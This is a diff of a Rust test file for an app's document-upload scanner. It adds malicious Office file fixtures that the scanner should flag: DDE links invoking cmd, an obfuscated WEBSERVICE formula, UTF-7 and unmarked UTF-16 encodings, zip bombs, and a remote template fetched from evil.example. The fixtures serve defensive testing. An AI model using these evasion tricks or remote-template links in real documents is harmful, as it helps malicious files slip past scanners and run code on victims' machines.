@@ -20,6 +20,23 @@ fn with(name: &str, bytes: &[u8]) -> Vec<u8> {
     word(&paragraph("", "Words"), &[(name, bytes)])
 }
 
+/// A Word file whose words stand in a part of this name; what is in the usual place is harmless.
+fn elsewhere(name: &str, body: &str) -> Vec<u8> {
+    let text = format!("<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>");
+    let root = relations("officeDocument", name, "");
+    zip(&[
+        ("[Content_Types].xml", TYPES),
+        ("_rels/.rels", &root),
+        ("word/document.xml", b"<a/>"),
+        (name, text.as_bytes()),
+    ])
+}
+
+/// A text in UTF-16, with its mark.
+fn wide(text: &str) -> Vec<u8> {
+    format!("\u{FEFF}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
 /// A spreadsheet with one more part.
 fn sheet(name: &str, bytes: &[u8]) -> Vec<u8> {
     zip(&[("[Content_Types].xml", TYPES), ("xl/workbook.xml", b"<workbook/>"), (name, bytes)])
@@ -161,6 +178,25 @@ fn bad_documents() -> Vec<(&'static str, Vec<u8>, &'static str)> {
             open_text("<text:a xlink:href='vnd.sun.star.script:a.b?location=document'/>"),
             "something that runs",
         ),
+        ("elsewhere.docx", elsewhere("dde/document.xml", split), "something that runs"),
+        ("another ending.docx", elsewhere("word/document.txt", split), "something that runs"),
+        ("wide.docx", with("a/b.bin", &wide(&format!("<document>{split}</document>"))), "something that runs"),
+        (
+            "elsewhere.xlsx",
+            sheet("a/b.dat", b"  \n\t    <worksheet><c><f>WEB<![CDATA[SERVICE]]>&#40;A1)</f></c></worksheet>"),
+            "from elsewhere",
+        ),
+        (
+            "in the wrong folder.xlsx",
+            sheet("word/b.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
+            "something that runs",
+        ),
+        (
+            "other letters.docx",
+            with("a/b.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-document+AD4-"),
+            "Nobody can look into it",
+        ),
+        ("unmarked.docx", with("a/b.bin", &wide("<?xml version='1.0'?><document/>")[2..]), "Nobody can look into it"),
         ("bomb.docx", with("word/media/x.bin", &spaces), "packed so tightly"),
         ("bomb in a chart.docx", with("word/embeddings/a.xlsx", &sheet("xl/a.bin", &spaces)), "packed so tightly"),
         ("twice.docx", with("WORD/document.xml", b"<a/>"), "Nobody can look into it"),
@@ -207,6 +243,9 @@ async fn an_ordinary_office_document_is_taken_with_its_links_charts_and_pictures
             ),
             ("word/_rels/document.xml.rels", &relations("hyperlink", "https://example.org/", OUT)),
             ("word/media/image1.emz", b"\x1f\x8b\x08\0"),
+            ("word/fonts/font1.odttf", b"<\xE9\x80a font"),
+            ("word/media/image2.svg", b"<!DOCTYPE svg><svg><a href='https://example.org/'/></svg>"),
+            ("docProps/core.xml", b"<?xml version='1.0' encoding='utf-8' standalone='yes'?><coreProperties/>"),
         ],
     );
     let text = open_text(
@@ -250,4 +289,35 @@ async fn an_office_document_from_before_is_looked_at_again_and_given_to_nobody_w
     let back = editor(&app, "TR").await;
     assert_eq!(back.get(&page).await.one(".head .chip"), "Something runs in it");
     assert_eq!(back.get(&file).await.status, 404);
+}
+
+#[tokio::test]
+async fn one_altered_file_keeps_no_other_from_being_looked_at_again() {
+    use diesel::prelude::*;
+    use sijil::platform::database::schema::library_versions;
+    let app = TestApp::start().await;
+    let own = editor(&app, "TR").await;
+    let altered = super::add(&app, &own, "Altered.docx", &with("a.xml", b"<a/>")).await;
+    let loading = super::add(&app, &own, "Loading.docx", &with("b.xml", b"<b/>")).await;
+    let template = relations("attachedTemplate", "http://evil.example/a.dotm", OUT);
+    let bytes = with("word/_rels/settings.xml.rels", &template);
+    let stored = app.platform.storage.put_bytes(bytes.into(), u64::MAX).await.unwrap();
+    let id = |page: &str| page.rsplit('/').next().unwrap().to_owned();
+    app.arrange(|connection| {
+        diesel::update(library_versions::table).set(library_versions::look.eq(1)).execute(connection).unwrap();
+        // The first has the second's hash: its bytes are not those that were put there.
+        diesel::update(library_versions::table.filter(library_versions::file_id.eq(id(&altered))))
+            .set(library_versions::hash.eq(stored.hash.clone()))
+            .execute(connection)
+            .unwrap();
+        diesel::update(library_versions::table.filter(library_versions::file_id.eq(id(&loading))))
+            .set((library_versions::storage_key.eq(stored.key.clone()), library_versions::hash.eq(stored.hash.clone())))
+            .execute(connection)
+            .unwrap();
+    });
+    app.turn_clock(3700);
+    app.work();
+    let back = editor(&app, "TR").await;
+    assert_eq!(back.get(&loading).await.one(".head .chip"), "Something runs in it");
+    assert_eq!(back.get(&altered).await.one(".head .chip"), "Ready", "it is for the check of rows and files");
 }
